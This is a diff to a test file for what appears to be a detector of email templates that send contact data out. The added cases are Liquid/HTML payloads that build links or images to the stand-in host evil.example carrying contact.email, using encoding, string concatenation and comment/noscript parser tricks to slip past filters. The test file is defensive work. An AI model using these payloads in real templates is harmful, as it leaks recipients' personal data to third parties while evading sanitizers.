@@ -47,6 +47,17 @@ const identifying = [
   '<img src="https://evil.example/{{ data.order }}">',
   '<img src="https://evil.example/?back={{ unsubscribeUrl | split: "/u/" | last }}{{ contact.id }}">',
   'See https://evil.example/?e={{ contact.email }}',
+  'See evil.example/{{ contact.email }}',
+  'See //evil.example/{{ contact.email }}',
+  'See http:&#47;&#47;evil.example/{{ contact.email }}',
+  'See {{ "https://evil.example/" }}{{ contact.email }}',
+  'See {{ "https://evil.example/" | append: contact.email }}',
+  '{% assign u = "https://evil.example/" %}{{ u }}{{ contact.email }}',
+  '{% assign u = "https://evil.example/" | append: contact.email %}{{ u }}',
+  '<a href="//evil.example/?e={{ contact.email }}">x</a>',
+  '<!-- x --!><img src="https://evil.example/?e={{ contact.email }}"> -->',
+  '<noembed><!--</noembed><img src="https://evil.example/?e={{ contact.email }}">-->',
+  '<noscript><!--</noscript><img src="https://evil.example/?e={{ contact.email }}">-->',
 ]
 
 describe('an address that is computed from the contact', () => {
@@ -96,6 +107,7 @@ test('what is the same for everybody, shown as text, or ours, stays as it is', a
     '<p title="{{ contact.email }}">Bonjour {{ contact.email }} {{ contact.attributes.tag }}</p>',
     '{% if contact.email %}{% assign base = "https://cdn.example" %}{% endif %}<img src="https://cdn.example/a.png" alt="{{ contact.email }}">',
     '{% assign of = account.locale %}<img src="https://shop.example/{{ of }}/{{ campaign.name | url_encode }}.png">',
+    '<p>{{ contact.email }}/{{ contact.id }}: {{ data.order }}{{ "," }} {{ contact.locale | default: "a.b" }}</p>',
     '<a href="{{ viewUrl }}">V</a><a href="{{ preferencesUrl }}?lang=fr">P</a>',
     '<a href="mailto:shop@shop.example?subject={{ contact.email }}">M</a>',
     '{% if contact.locale == "fr" %}<img src="https://cdn.example/fr.png">{% endif %}',
